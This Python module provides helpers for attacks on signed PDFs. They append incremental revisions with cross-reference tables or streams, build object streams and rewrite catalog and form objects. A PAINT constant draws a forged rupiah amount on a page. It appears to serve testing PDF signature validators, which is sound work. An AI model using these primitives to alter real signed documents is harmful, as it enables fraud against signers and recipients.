"""What attacks on signed PDFs are made of: finding objects in small files, and appending revisions."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping

from sipadek.errors import InvalidInput

Attack = Callable[[bytes], bytes]

PAINT = b"<</Length 46>>stream\nBT /F1 24 Tf 72 700 Td (Rp 9.000.000,00) Tj ET\nendstream"


def append(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    entries: bytes = b"",
    generation: int = 0,
    trailer: bytes = b"",
    end: bytes = b"\nstartxref\n%d\n%%%%EOF\n",
    **entry: int | None,
) -> bytes:
    """One more revision with a classic table. ``trailer`` is added to the trailer, ``end`` follows it;
    ``root`` and ``prev`` (None leaves it out) stand in the place of what would be right."""
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    for number, body in sorted(objects.items()):
        entries += b"%d 1\n%010d %05d n \n" % (number, len(out), generation)
        out += b"%d %d obj\n%s\nendobj\n" % (number, generation, body)
    at = len(out)
    out += b"xref\n%strailer\n<<%s%s>>" % (entries, shared(pdf, objects, **entry), trailer)
    return bytes(out) + (end % at if b"%d" in end else end)


def append_stream(
    pdf: bytes,
    objects: Mapping[int, bytes],
    packed: Mapping[int, tuple[int, int]] | None = None,
) -> bytes:
    """One more revision with a cross-reference stream. ``packed`` lists objects that stand in an
    object stream: its number, and the place in it."""
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    rows: dict[int, tuple[int, int, int]] = {
        number: (2, *place) for number, place in (packed or {}).items()
    }
    for number, body in sorted(objects.items()):
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    own = max([size_of(pdf), *(each + 1 for each in rows)])
    rows[own] = (1, len(out), 0)
    out += b"%d 0 obj\n%s\nendobj" % (own, xref_stream(pdf, rows, prev=startxref(pdf)))
    return bytes(out) + b"\nstartxref\n%d\n%%%%EOF\n" % rows[own][1]


def xref_stream(
    pdf: bytes, rows: Mapping[int, tuple[int, int, int]], *, prev: int | None = None
) -> bytes:
    """The stream that lists ``rows``: kind, and two numbers, of each object."""
    data = b"".join(
        b"%c%s%s" % (kind, at.to_bytes(4, "big"), more.to_bytes(2, "big"))
        for _, (kind, at, more) in sorted(rows.items())
    )
    index = b" ".join(b"%d 1" % number for number in sorted(rows))
    keys = shared(pdf, rows, prev=prev)
    return stream(data, b"/Type/XRef/W[1 4 2]/Index[%s]%s" % (index, keys))


def object_stream(objects: Mapping[int, bytes]) -> bytes:
    """An object stream that holds ``objects``."""
    head = bodies = b""
    for number, body in objects.items():
        head += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    keys = b"/Type/ObjStm/N %d/First %d" % (len(objects), len(head))
    return stream(head + bodies, keys)


def stream(data: bytes, keys: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (keys, len(data), data)


def shared(
    pdf: bytes,
    numbers: Iterable[int],
    *,
    root: int | None = None,
    prev: int | None = -1,
) -> bytes:
    """The entries of the next trailer."""
    if prev == -1:
        prev = startxref(pdf)
    return b"/Size %d/Root %d 0 R%s%s" % (
        max(size_of(pdf), *(each + 1 for each in (0, *numbers))),
        root or int(re.findall(rb"/Root\s*(\d+)", pdf)[-1]),
        b"" if prev is None else b"/Prev %d" % prev,
        b"".join(re.findall(rb"/ID\s*\[[^]]*\]", pdf)[-1:]),
    )


def startxref(pdf: bytes) -> int:
    """Where the newest revision says that its cross-reference section is."""
    return int(pdf.rpartition(b"startxref")[2].split()[0])


def page_of(pdf: bytes) -> int:
    """The number of the first page's object."""
    return number_of(rb"/Type\s*/Page[^s]", pdf)


def content_of(pdf: bytes) -> int:
    """The number of the first page's content stream."""
    return reference(b"Contents", body_of(pdf, page_of(pdf)))


def size_of(pdf: bytes) -> int:
    return int(re.findall(rb"/Size\s*(\d+)", pdf)[-1])


def objects_of(pdf: bytes) -> list[tuple[int, bytes]]:
    return [
        (int(found[1]), found[2].strip())
        for found in re.finditer(rb"(?:^|[\r\n])(\d+) 0 obj(.*?)endobj", pdf, re.DOTALL)
    ]


def number_of(holding: bytes, pdf: bytes) -> int:
    """The object of which the last writing holds a pattern."""
    for number, body in reversed(objects_of(pdf)):
        if re.search(holding, body):
            return number
    raise InvalidInput(f"The file has no object with {holding!r}; give a small signed file.")


def body_of(pdf: bytes, number: int) -> bytes:
    return [body for each, body in objects_of(pdf) if each == number][-1]


def reference(key: bytes, body: bytes) -> int:
    found = re.search(rb"/%s\s*(\d+) 0 R" % key, body)
    if found is None:
        raise InvalidInput(f"The object has no /{key.decode()}; give a small signed file.")
    return int(found[1])


def with_entry(body: bytes, entry: bytes) -> bytes:
    return body[: body.rindex(b">>")] + entry + b">>"


def catalog_with(pdf: bytes, pattern: bytes, by: bytes) -> dict[int, bytes]:
    number = int(re.findall(rb"/Root\s*(\d+)", pdf)[-1])
    return {number: re.sub(pattern, lambda _: by, body_of(pdf, number), count=1, flags=re.DOTALL)}


def form_of(pdf: bytes) -> bytes:
    return body_of(pdf, reference(b"AcroForm", body_of(pdf, number_of(rb"/Type\s*/Catalog", pdf))))


def with_form(pdf: bytes, form: bytes) -> dict[int, bytes]:
    catalog = body_of(pdf, number_of(rb"/Type\s*/Catalog", pdf))
    return {reference(b"AcroForm", catalog): form}
